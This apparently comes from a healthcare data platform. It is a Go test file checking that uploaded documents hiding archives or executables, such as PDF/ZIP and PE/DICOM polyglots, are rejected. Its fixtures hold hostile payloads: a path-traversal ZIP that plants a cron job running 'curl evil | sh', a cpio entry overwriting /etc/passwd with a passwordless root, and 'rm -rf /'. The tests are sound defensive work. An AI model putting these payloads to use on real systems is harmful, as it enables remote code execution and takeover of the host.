package documents_test

import (
	"archive/zip"
	"bufio"
	"bytes"
	"compress/flate"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/concord-hie/concord/documents"
	"github.com/concord-hie/concord/internal/errs"
	"github.com/concord-hie/concord/internal/testkit"
)

// random returns n reproducible pseudo-random bytes: what compressed image and PDF
// payloads look like to a signature scan.
func random(n int, seed uint64) []byte {
	b := make([]byte, n)
	r := rand.NewChaCha8([32]byte{byte(seed), byte(seed >> 8), 7})
	r.Read(b)
	return b
}

func cat(parts ...[]byte) []byte { return bytes.Join(parts, nil) }

func fixture(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", "containers", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// zipOf returns a ZIP archive holding one entry.
func zipOf(t testing.TB, name, content string) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	f, err := w.Create(name)
	if err != nil {
		t.Fatal(err)
	}
	f.Write([]byte(content))
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// dicomFile returns a DICOM Part 10 file: the given 128-byte preamble (zeros when nil),
// "DICM", a file meta group and pixel data holding payload.
func dicomFile(preamble, payload []byte) []byte {
	var b bytes.Buffer
	p := make([]byte, 128)
	copy(p, preamble)
	b.Write(p)
	b.WriteString("DICM")
	ts := "1.2.840.10008.1.2.1\x00" // explicit VR little endian
	elem := func(group, elem uint16, vr string, v []byte) {
		binary.Write(&b, binary.LittleEndian, [2]uint16{group, elem})
		b.WriteString(vr)
		if vr == "OB" {
			b.Write([]byte{0, 0})
			binary.Write(&b, binary.LittleEndian, uint32(len(v)))
		} else {
			binary.Write(&b, binary.LittleEndian, uint16(len(v)))
		}
		b.Write(v)
	}
	elem(0x0002, 0x0000, "UL", binary.LittleEndian.AppendUint32(nil, uint32(8+len(ts))))
	elem(0x0002, 0x0010, "UI", []byte(ts))
	elem(0x7fe0, 0x0010, "OB", payload)
	return b.Bytes()
}

// tiffFile returns a little-endian TIFF whose one strip is payload.
func tiffFile(payload []byte) []byte {
	var b bytes.Buffer
	b.WriteString("II*\x00")
	binary.Write(&b, binary.LittleEndian, uint32(8))
	entries := [][3]uint32{{256, 3, 64}, {257, 3, uint32(len(payload) / 64)}, {258, 3, 8}, {273, 4, 8 + 2 + 5*12 + 4}, {279, 4, uint32(len(payload))}}
	binary.Write(&b, binary.LittleEndian, uint16(len(entries)))
	for _, e := range entries {
		binary.Write(&b, binary.LittleEndian, uint16(e[0]))
		binary.Write(&b, binary.LittleEndian, uint16(e[1]))
		binary.Write(&b, binary.LittleEndian, uint32(1))
		binary.Write(&b, binary.LittleEndian, e[2])
	}
	binary.Write(&b, binary.LittleEndian, uint32(0))
	b.Write(payload)
	return b.Bytes()
}

// pdfWithStreams returns a PDF whose content and image streams are FlateDecode-compressed.
func pdfWithStreams(t testing.TB) []byte {
	t.Helper()
	deflate := func(p []byte) []byte {
		var buf bytes.Buffer
		w, _ := flate.NewWriter(&buf, flate.BestCompression)
		w.Write(p)
		w.Close()
		return buf.Bytes()
	}
	content := deflate(bytes.Repeat([]byte("BT /F1 12 Tf 72 712 Td (Discharge summary: stable, follow up in 2 weeks) Tj ET\n"), 200))
	img := deflate(random(300<<10, 11)) // a photo's worth of incompressible samples
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	fmt.Fprintf(&b, "1 0 obj\n<< /Length %d /Filter /FlateDecode >>\nstream\n", len(content))
	b.Write(content)
	b.WriteString("\nendstream\nendobj\n")
	fmt.Fprintf(&b, "2 0 obj\n<< /Type /XObject /Subtype /Image /Width 320 /Height 320 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Length %d /Filter /FlateDecode >>\nstream\n", len(img))
	b.Write(img)
	b.WriteString("\nendstream\nendobj\ntrailer\n<< /Size 3 >>\n%%EOF\n")
	return b.Bytes()
}

func noise(seed uint64) *image.RGBA {
	m := image.NewRGBA(image.Rect(0, 0, 384, 384))
	r := rand.New(rand.NewChaCha8([32]byte{byte(seed)}))
	for y := range 384 {
		for x := range 384 {
			m.Set(x, y, color.RGBA{uint8(r.Uint32()), uint8(r.Uint32()), uint8(r.Uint32()), 255})
		}
	}
	return m
}

func pngNoise(t testing.TB) []byte {
	var buf bytes.Buffer
	if err := png.Encode(&buf, noise(1)); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func jpegNoise(t testing.TB) []byte {
	var buf bytes.Buffer
	if err := jpeg.Encode(&buf, noise(2), &jpeg.Options{Quality: 95}); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// cabinet returns a Microsoft cabinet with one stored file (MS-CAB format).
func cabinet() []byte {
	data := []byte("MZ this is not really a program")
	name := "setup.exe\x00"
	le := binary.LittleEndian
	var b []byte
	b = append(b, "MSCF\x00\x00\x00\x00"...)
	filesAt := 36 + 8
	dataAt := filesAt + 16 + len(name)
	b = le.AppendUint32(b, uint32(dataAt+8+len(data))) // cbCabinet
	b = le.AppendUint32(b, 0)
	b = le.AppendUint32(b, uint32(filesAt))
	b = le.AppendUint32(b, 0)
	b = append(b, 3, 1)             // version 1.3
	b = le.AppendUint16(b, 1)       // folders
	b = le.AppendUint16(b, 1)       // files
	b = append(b, 0, 0, 0, 0, 0, 0) // flags, set id, cabinet index
	b = le.AppendUint32(b, uint32(dataAt))
	b = le.AppendUint16(b, 1) // data blocks
	b = le.AppendUint16(b, 0) // stored
	b = le.AppendUint32(b, uint32(len(data)))
	b = le.AppendUint32(b, 0)
	b = append(b, 0, 0, 0, 0, 0, 0, 0x20, 0)
	b = append(b, name...)
	b = le.AppendUint32(b, 0)
	b = le.AppendUint16(b, uint16(len(data)))
	b = le.AppendUint16(b, uint16(len(data)))
	return append(b, data...)
}

// cpioNewc returns a cpio archive (SVR4 "newc" format) holding one file.
func cpioNewc(name, data string) []byte {
	var b strings.Builder
	fields := []int{1, 0o100644, 0, 0, 1, 1700000000, len(data), 0, 0, 0, 0, len(name) + 1, 0}
	b.WriteString("070701")
	for _, f := range fields {
		fmt.Fprintf(&b, "%08x", f)
	}
	b.WriteString(name + "\x00")
	for b.Len()%4 != 0 {
		b.WriteByte(0)
	}
	b.WriteString(data)
	return []byte(b.String())
}

// peFile returns the headers of a Windows executable.
func peFile() []byte {
	b := make([]byte, 0x200)
	copy(b, "MZ\x90\x00")
	binary.LittleEndian.PutUint32(b[0x3c:], 0x80)
	copy(b[0x80:], "PE\x00\x00\x64\x86") // x86-64
	return b
}

// peDICOM returns a PE/DICOM polyglot (CVE-2019-11687): a DOS header in the preamble
// whose e_lfanew names a PE header placed after the DICOM data.
func peDICOM() []byte {
	pixels := random(1024, 4)
	n := len(dicomFile(nil, pixels))
	pre := make([]byte, 128)
	copy(pre, "MZ\x90\x00")
	binary.LittleEndian.PutUint32(pre[0x3c:], uint32(n))
	return cat(dicomFile(pre, pixels), []byte("PE\x00\x00\x64\x86"), make([]byte, 256))
}

func machOFile() []byte {
	b := []byte("\xcf\xfa\xed\xfe")
	b = binary.LittleEndian.AppendUint32(b, 0x0100000c) // arm64
	b = binary.LittleEndian.AppendUint32(b, 0)
	b = binary.LittleEndian.AppendUint32(b, 2) // executable
	return append(b, make([]byte, 16)...)
}

// containers are archives, compressed streams and executables, real where a stock tool
// made them (testdata/containers) and built from their specifications otherwise.
func containers(t testing.TB) []struct {
	kind string
	data []byte
} {
	xar := []byte("xar!\x00\x1c\x00\x01")
	xar = binary.BigEndian.AppendUint64(xar, 300)
	xar = binary.BigEndian.AppendUint64(xar, 900)
	xar = binary.BigEndian.AppendUint32(xar, 1) // SHA-1
	cfb := make([]byte, 512)
	copy(cfb, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")
	copy(cfb[24:], "\x3e\x00\x03\x00\xfe\xff\x09\x00")
	return []struct {
		kind string
		data []byte
	}{
		{"zip", fixture(t, "note.zip")},
		{"zip", zipOf(t, "../../etc/cron.d/evil", "* * * * * root sh -c 'curl evil | sh'\n")},
		{"gzip", fixture(t, "note.txt.gz")},
		{"bzip2", fixture(t, "note.txt.bz2")},
		{"xz", fixture(t, "note.txt.xz")},
		{"zstd", fixture(t, "note.txt.zst")},
		{"zstd", fixture(t, "note.nocheck.zst")},
		{"zstd", fixture(t, "random.zst")},
		{"lz4", fixture(t, "note.txt.lz4")},
		{"lz4", fixture(t, "note.size.lz4")},
		{"ar", fixture(t, "note.a")},
		{"tar", fixture(t, "note.tar")},
		{"tar", fixture(t, "note-gnu.tar")},
		{"elf", fixture(t, "elf.head")},
		{"7z", append([]byte("7z\xbc\xaf\x27\x1c\x00\x04"), random(24, 3)...)},
		{"rar", append([]byte("Rar!\x1a\x07\x01\x00"), random(24, 4)...)},
		{"rar", append([]byte("Rar!\x1a\x07\x00"), random(24, 5)...)},
		{"lzip", append([]byte("LZIP\x01\x14\x00"), random(40, 6)...)},
		{"cab", cabinet()},
		{"cpio", cpioNewc("../../etc/passwd", "root::0:0::/:/bin/sh\n")},
		{"xar", xar},
		{"cfb", cfb},
		{"pe", peFile()},
		{"mach-o", machOFile()},
	}
}

// TestFindContainerAnywhere embeds each container in random data, at the start and at odd
// offsets, and expects it found where it is.
func TestFindContainerAnywhere(t *testing.T) {
	for _, c := range containers(t) {
		for _, at := range []int{0, 1, 4097, 70001} {
			t.Run(fmt.Sprintf("%s at %d", c.kind, at), func(t *testing.T) {
				body := cat(random(at, uint64(at)), c.data, random(3000, 99))
				kind, got, ok := documents.FindContainer(body)
				if !ok || kind != c.kind || got != at && !(c.kind == "tar" && got == at+257) {
					t.Errorf("FindContainer = %q at %d, %v; want %q at %d", kind, got, ok, c.kind, at)
				}
			})
		}
	}
	// A zip whose end record is the only ZIP structure left (local headers overwritten):
	// readers that start from the central directory still see it.
	z := zipOf(t, "evil", "x")
	z = bytes.ReplaceAll(z, []byte("PK\x03\x04"), []byte("XX\x03\x04"))
	if kind, _, ok := documents.FindContainer(cat([]byte("%PDF-1.7\n"), z)); !ok || kind != "zip" {
		t.Errorf("central directory without local headers: %q, %v", kind, ok)
	}
	// ISO 9660 keeps its volume descriptors at 32 KiB, whatever comes first.
	iso := make([]byte, 0x9000)
	copy(iso, "%PDF-1.7\n")
	copy(iso[0x8000:], "\x01CD001\x01")
	if kind, _, ok := documents.FindContainer(iso); !ok || kind != "iso9660" {
		t.Errorf("ISO 9660: %q, %v", kind, ok)
	}
}

// TestFindContainerIgnoresChance scans 64 MiB of random bytes (twice the default size
// limit), long runs of zeros, and words that begin signatures: a scan that trusted
// 2-to-4-byte magics alone would stop here several times.
func TestFindContainerIgnoresChance(t *testing.T) {
	n := 64 << 20
	if testing.Short() {
		n = 8 << 20
	}
	for _, tt := range []struct {
		name string
		body []byte
	}{
		{"random", random(n, 1)},
		{"zeros", make([]byte, 1<<20)},
		{"magic prefixes", bytes.Repeat([]byte("PK\x03\x04\x14\x00\x00\x00PK\x05\x06\x00\x00\x1f\x8b\x08\x00\x28\xb5\x2f\xfd\x04\x22\x4d\x18MZ\x7fELFBZh9LZIPMSCF070701ustar\x00"), 100)[4:]},
		{"words", []byte("PKU MZ BZh LZIP MSCF xar! 070701 070707 ustar !<arch> Rar! 7z PK PK\x03 \x7fEL")},
		{"ustar where a tar header has it", append(bytes.Repeat([]byte("Allergies: "), 256/11+1)[:256], "mustard, shellfish.\n"...)},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if kind, at, ok := documents.FindContainer(tt.body); ok {
				t.Errorf("found %s at %d by chance", kind, at)
			}
		})
	}
}

// TestFindContainerBoundsItsWork: a body stuffed with gzip headers, each to be inflated,
// is refused once the probes run out rather than scanned slowly.
func TestFindContainerBoundsItsWork(t *testing.T) {
	body := bytes.Repeat(cat([]byte("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"), random(6, 1)), 100000)
	start := time.Now()
	kind, _, ok := documents.FindContainer(body[3:])
	if !ok || kind != "gzip" {
		t.Errorf("FindContainer = %q, %v; want gzip (fail closed)", kind, ok)
	}
	if d := time.Since(start); d > 2*time.Second {
		t.Errorf("scan took %v", d)
	}
}

func allowedDefaults() map[string]bool {
	m := map[string]bool{}
	for _, mt := range documents.DefaultAllowedTypes {
		m[mt] = true
	}
	return m
}

// TestCheckContent is the decision table for one body against its declared type.
func TestCheckContent(t *testing.T) {
	evil := zipOf(t, "../../etc/cron.d/evil", "* * * * * root sh -c 'curl evil | sh'\n")
	text := note(600, 1)
	pdf := pdfWithStreams(t)
	lz4 := fixture(t, "note.txt.lz4")
	elf := fixture(t, "elf.head")
	ok := errs.Code(255)
	for _, tt := range []struct {
		name     string
		declared string
		body     []byte
		want     errs.Code
	}{
		// What the reviewer found accepted.
		{"PDF/ZIP polyglot", "application/pdf", cat([]byte("%PDF-1.7\n1 0 obj\n<<>>\nendobj\n"), evil, []byte("%%EOF\n")), errs.Unsupported},
		{"text then ZIP", "text/plain", cat(text, evil), errs.Unsupported},
		{"CAB as DICOM", "application/dicom", cabinet(), errs.Unsupported},
		{"ELF as DICOM", "application/dicom", cat(elf, random(4096, 2)), errs.Unsupported},
		{"LZ4 as TIFF", "image/tiff", lz4, errs.Unsupported},
		{"legacy LZ4 as TIFF", "image/tiff", fixture(t, "note.legacy.lz4"), errs.Unsupported},
		// The same in a real header's clothes.
		{"ELF in a DICOM preamble", "application/dicom", dicomFile(elf, random(4096, 3)), errs.Unsupported},
		{"PE in a DICOM preamble", "application/dicom", peDICOM(), errs.Unsupported},
		{"CAB in DICOM pixel data", "application/dicom", dicomFile(nil, cat(random(5000, 5), cabinet())), errs.Unsupported},
		{"LZ4 in a TIFF strip", "image/tiff", tiffFile(cat(random(6000, 6), lz4)), errs.Unsupported},
		{"ZIP after a JPEG", "image/jpeg", cat(jpegNoise(t), evil), errs.Unsupported},
		{"gzip after a PNG", "image/png", cat(pngNoise(t), fixture(t, "note.txt.gz")), errs.Unsupported},
		{"ar of text as text", "text/plain", fixture(t, "note.a"), errs.Unsupported},
		{"cpio inside text", "text/markdown", cat(text, cpioNewc("evil.sh", "rm -rf /\n"), text), errs.Unsupported},
		// No real magic: no longer application/octet-stream passing as DICOM or TIFF.
		{"random as DICOM", "application/dicom", random(4096, 7), errs.Invalid},
		{"random as TIFF", "image/tiff", random(4096, 8), errs.Invalid},
		{"DICM one byte late", "application/dicom", cat(make([]byte, 129), []byte("DICM"), random(100, 9)), errs.Invalid},
		{"text as PNG", "image/png", text, errs.Invalid},
		{"text with NUL", "text/plain", cat(text, []byte{0}, text), errs.Invalid},
		{"Latin-1 text", "text/plain", []byte("caf\xe9 au lait"), errs.Invalid},
		{"Latin-1 declared", "text/plain; charset=iso-8859-1", []byte("cafe"), errs.Unsupported},
		{"ASCII declared, UTF-8 sent", "text/plain; charset=us-ascii", []byte("caf\u00e9"), errs.Invalid},
		{"broken JSON", "application/fhir+json", []byte(`{"resourceType":"Patient"`), errs.Invalid},
		{"XML that is not", "application/hl7-cda+xml", text, errs.Invalid},
		{"HTML as XML", "text/xml", []byte("<html><script>alert(1)</script></html>"), errs.Invalid},
		{"HTML as PDF", "application/pdf", []byte("<html>%PDF-</html>"), errs.Invalid},
		// Real documents.
		{"DICOM", "application/dicom", dicomFile(nil, random(256<<10, 10)), ok},
		{"DICOM with a TIFF preamble", "application/dicom", dicomFile([]byte("II*\x00\x08\x00\x00\x00"), random(4096, 12)), ok},
		{"TIFF", "image/tiff", tiffFile(random(256<<10, 13)), ok},
		{"big-endian TIFF", "image/tiff", cat([]byte("MM\x00*\x00\x00\x00\x08"), random(4096, 14)), ok},
		{"PDF with compressed streams", "application/pdf", pdf, ok},
		{"PNG", "image/png", pngNoise(t), ok},
		{"JPEG", "image/jpeg", jpegNoise(t), ok},
		{"GIF", "image/gif", cat([]byte("GIF89a\x01\x00\x01\x00\x00\x00\x00"), random(2000, 15)), ok},
		{"text mentioning PK", "text/plain; charset=utf-8", []byte("PK studies (PK/PD) show PK\x20levels; MZ, BZh and LZIP are not archives.\n"), ok},
		{"text starting MZ", "text/plain", []byte("MZ: patient seen for follow-up.\n"), ok},
		{"HTML as plain text", "text/plain", []byte("<html><script>x</script></html>"), ok},
		{"ASCII", "text/plain; charset=US-ASCII", []byte("plain"), ok},
		{"CDA", "application/hl7-cda+xml", []byte("\xef\xbb\xbf<?xml version=\"1.0\"?>\n<ClinicalDocument xmlns=\"urn:hl7-org:v3\"/>"), ok},
		{"FHIR JSON", "application/fhir+json", []byte(`{"resourceType":"Patient"}`), ok},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got, err := documents.CheckContent("test", allowedDefaults(), tt.declared, tt.body)
			if tt.want == ok {
				if err != nil {
					t.Errorf("refused: %v", err)
				} else if mt, _, _ := strings.Cut(got, ";"); mt != strings.ToLower(strings.Split(tt.declared, ";")[0]) {
					t.Errorf("stored type %q for %q", got, tt.declared)
				}
				return
			}
			if err == nil || errs.CodeOf(err) != tt.want {
				t.Errorf("err = %v, want %v", err, tt.want)
			}
		})
	}
}

// TestEveryDefaultTypeNeedsItsSignature: no default type falls back to a generic sniff,
// and none accepts bytes that carry no signature.
func TestEveryDefaultTypeNeedsItsSignature(t *testing.T) {
	for _, mt := range documents.DefaultAllowedTypes {
		if !documents.HasTypeCheck(mt) {
			t.Errorf("%s has no signature check", mt)
		}
		for seed := range uint64(20) {
			body := random(2048, seed)
			if _, err := documents.CheckContent("test", allowedDefaults(), mt, body); errs.CodeOf(err) != errs.Invalid {
				t.Errorf("%s: random bytes (seed %d): err = %v, want invalid", mt, seed, err)
			}
		}
	}
	// A configured type Concord has no check for passes only on an exact sniff.
	allowed := map[string]bool{"audio/mpeg": true}
	if _, err := documents.CheckContent("test", allowed, "audio/mpeg", random(512, 1)); errs.CodeOf(err) != errs.Invalid {
		t.Errorf("octet-stream as audio/mpeg: %v", err)
	}
	if _, err := documents.CheckContent("test", allowed, "audio/mpeg", cat([]byte("ID3\x03\x00"), random(512, 2))); err != nil {
		t.Errorf("MP3: %v", err)
	}
}

// TestSyntheaNotesPassTheContentCheck runs every clinical note of the bulk-10 sample
// through the check, as intake would, without services.
func TestSyntheaNotesPassTheContentCheck(t *testing.T) {
	f, err := os.Open(filepath.Join(testkit.SharedData(t, "synthea", "bulk-10"), "DocumentReference.000.ndjson"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 16<<20)
	n := 0
	for sc.Scan() {
		var d struct {
			Content []struct {
				Attachment attachment `json:"attachment"`
			} `json:"content"`
		}
		if err := json.Unmarshal(sc.Bytes(), &d); err != nil {
			t.Fatal(err)
		}
		for _, c := range d.Content {
			data, err := base64.StdEncoding.DecodeString(c.Attachment.Data)
			if err != nil {
				t.Fatal(err)
			}
			if _, err := documents.CheckContent("test", allowedDefaults(), c.Attachment.ContentType, data); err != nil {
				t.Errorf("note %d (%s): %v", n+1, c.Attachment.ContentType, err)
			}
			n++
		}
	}
	if err := sc.Err(); err != nil || n == 0 {
		t.Fatalf("%d notes read: %v", n, err)
	}
}

// TestIngestRefusesHiddenContainersAndLeavesNothing goes through the service with real S3
// and PostgreSQL: each refusal comes before any byte reaches the object store, so it leaves
// neither a metadata row nor an orphan object.
func TestIngestRefusesHiddenContainersAndLeavesNothing(t *testing.T) {
	e := setup(t, documents.Config{})
	ctx := t.Context()
	evil := zipOf(t, "../../etc/cron.d/evil", "* * * * * root sh -c 'curl evil | sh'\n")
	polyglot := cat([]byte("%PDF-1.7\n1 0 obj\n<<>>\nendobj\n"), evil, []byte("%%EOF\n"))

	if _, err := e.ingest(t, "a", docRef(e.patients["a"], "application/pdf", polyglot, "")); errs.CodeOf(err) != errs.Unsupported {
		t.Errorf("PDF/ZIP polyglot in a DocumentReference: err = %v", err)
	}
	bin := `{"resourceType":"Binary","contentType":"text/plain","data":"` + base64.StdEncoding.EncodeToString(cat(note(600, 2), evil)) + `"}`
	if _, err := e.ingest(t, "a", bin); errs.CodeOf(err) != errs.Unsupported {
		t.Errorf("text then ZIP in a Binary: err = %v", err)
	}
	up := documents.PatientUpload{ContentType: "image/tiff", Body: bytes.NewReader(fixture(t, "note.txt.lz4"))}
	if _, err := e.svc.UploadPatientDocument(ctx, "person-1", up); errs.CodeOf(err) != errs.Unsupported {
		t.Errorf("LZ4 as TIFF from a patient: err = %v", err)
	}
	up = documents.PatientUpload{ContentType: "application/dicom", Body: bytes.NewReader(dicomFile(fixture(t, "elf.head"), random(2048, 1)))}
	if _, err := e.svc.UploadPatientDocument(ctx, "person-1", up); errs.CodeOf(err) != errs.Unsupported {
		t.Errorf("ELF in a DICOM preamble from a patient: err = %v", err)
	}
	for _, q := range []string{
		`SELECT count(*) FROM documents_metadata`,
		`SELECT count(*) FROM documents_contents`,
		`SELECT count(*) FROM fhir_resources WHERE type IN ('DocumentReference', 'Binary')`,
	} {
		if n := count(t, e.pool, q); n != 0 {
			t.Errorf("%s = %d after refused uploads", q, n)
		}
	}
	objects := 0
	for _, err := range e.blobs.List(ctx, "", time.Now().Add(time.Hour)) {
		if err != nil {
			t.Fatal(err)
		}
		objects++
	}
	if objects != 0 {
		t.Errorf("%d objects in S3 after refused uploads", objects)
	}

	// A real PDF, compressed streams and all, still goes in and comes out intact.
	pdf := pdfWithStreams(t)
	st, err := e.ingest(t, "a", docRef(e.patients["a"], "application/pdf", pdf, ""))
	if err != nil {
		t.Fatalf("PDF with compressed streams: %v", err)
	}
	c, err := e.svc.Content(ctx, strings.TrimPrefix(attachmentOf(t, st.Body).URL, base+"/Binary/"))
	if err != nil || c.Key != documents.KeyOf(pdf) || c.ContentType != "application/pdf" {
		t.Errorf("stored PDF: %+v, %v", c, err)
	}
}

// BenchmarkFindContainer measures the scan over a body of the default size limit.
func BenchmarkFindContainer(b *testing.B) {
	body := random(documents.DefaultMaxBytes, 1)
	b.SetBytes(int64(len(body)))
	for b.Loop() {
		if _, _, ok := documents.FindContainer(body); ok {
			b.Fatal("found a container in random bytes")
		}
	}
}
